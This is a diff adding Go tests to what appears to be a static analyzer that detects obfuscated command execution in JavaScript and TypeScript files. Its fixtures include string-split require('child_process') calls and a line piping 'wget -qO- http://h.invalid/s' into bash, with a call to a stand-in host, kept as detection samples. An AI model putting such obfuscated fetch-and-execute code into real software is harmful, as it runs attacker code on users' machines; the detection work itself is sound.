@@ -141,6 +141,91 @@ func TestLexerFallback(t *testing.T) {
 	}
 }
 
+func TestRejectedSyntaxRewritten(t *testing.T) {
+	// Node runs these, the parser rejects them: one such token must not
+	// reduce the file to its tokens.
+	payload := "\nvar m = 'child_' + 'process';\nrequire(m).exec('id');\n"
+	for name, head := range map[string]string{
+		"legacy octal":     "require('fs').chmodSync(__filename, 0644);",
+		"octal-like":       "var n = 08;",
+		"if function":      "if (process.env.X) function f() {}",
+		"for-in init":      "for (var i = 0 in {}) ;",
+		"decorator":        "function d(c) { return c } @d class A {}",
+		"using":            "{ using r = null; }",
+		"import assert":    "import cfg from './c.json' assert { type: 'json' };",
+		"jsx in a js file": "const el = <div className='x'/>;",
+	} {
+		t.Run(name, func(t *testing.T) {
+			f := Analyze("a.js", []byte(head+payload), DefaultLimits())
+			if f.Mode != ModeTransformed {
+				t.Fatalf("mode %v (%s)", f.Mode, f.ParseError)
+			}
+			if c := hasCall(f, "child_process.exec"); c == nil || c.Pos.Line != 3 {
+				t.Errorf("exec = %+v, calls %+v", c, f.Calls)
+			}
+		})
+	}
+	// TypeScript's decorators too
+	f := Analyze("a.ts", []byte("function d(c: any) { return c }\n@d class A { x: number = 1 }"+payload), DefaultLimits())
+	if f.Mode != ModeTransformed || hasCall(f, "child_process.exec") == nil {
+		t.Errorf("decorated TypeScript: mode %v (%s), calls %+v", f.Mode, f.ParseError, f.Calls)
+	}
+	// What the parser still rejects after the rewrite (a chain past its
+	// operand limit, which is reported) or esbuild rejects too stays with
+	// the lexer, which folds the payload.
+	for _, head := range []string{"var pad = " + strings.Repeat("a+", 1200) + "1;", "var await = 1;"} {
+		f := Analyze("a.js", []byte(head+payload), DefaultLimits())
+		if f.Mode != ModeLexer || f.ParseError == "" || (head[4] == 'p') != (f.Limit == LimitOperands) {
+			t.Errorf("%.12s: mode %v, limit %v", head, f.Mode, f.Limit)
+		}
+		if hasCall(f, "child_process.exec") == nil {
+			t.Errorf("%.12s: calls %+v", head, f.Calls)
+		}
+	}
+}
+
+func TestLexerFolds(t *testing.T) {
+	// Duplicate parameters: rejected by the parser and by esbuild's
+	// rewrite, legal in sloppy mode. The lexer still folds.
+	src := `function noop(a, a) {}
+var m = 'child' + '_process';
+var k = 'ex' + 'ec';
+require(m)[k]('wget -qO- http://h.invalid/s | bash');
+var cp = require('ht' + 'tps');
+cp['get']('https://h.invalid/x');
+require("os")["hostname"]();
+var u = 'x' + y;
+var v = 'a' + 'b'.toUpperCase();
+`
+	f := Analyze("a.js", []byte(src), DefaultLimits())
+	if f.Mode != ModeLexer {
+		t.Fatalf("mode %v", f.Mode)
+	}
+	for _, m := range []string{"child_process", "https"} {
+		if !hasImport(f, m) {
+			t.Errorf("import %s not folded: %+v", m, f.Imports)
+		}
+	}
+	c := hasCall(f, "child_process.exec")
+	if c == nil || len(c.Args) == 0 || c.Args[0].Value != "wget -qO- http://h.invalid/s | bash" {
+		t.Errorf("exec = %+v; calls %+v", c, f.Calls)
+	}
+	for _, callee := range []string{"https.get", "os.hostname"} {
+		if hasCall(f, callee) == nil {
+			t.Errorf("%s missing: %+v", callee, f.Calls)
+		}
+	}
+	if !hasString(f, "child_process") || hasString(f, "xy") || hasString(f, "aB") || hasString(f, "ab") {
+		t.Errorf("strings %+v", f.Strings)
+	}
+	// no scopes in the lexer: a name assigned twice is not a constant
+	src = "// @flow\nvar m = 'child_process'; function g(x: number) { m = 'os'; require(m).exec('id') }\n"
+	f = Analyze("b.js", []byte(src), DefaultLimits())
+	if f.Mode != ModeLexer || hasImport(f, "child_process") || hasImport(f, "os") {
+		t.Errorf("mode %v, imports %+v", f.Mode, f.Imports)
+	}
+}
+
 func TestLexerErrorsCostLittle(t *testing.T) {
 	// Every lexer error costs the lexer a copy of its input. A large file
 	// of bad lines once cost that for the rest of the file at each line;
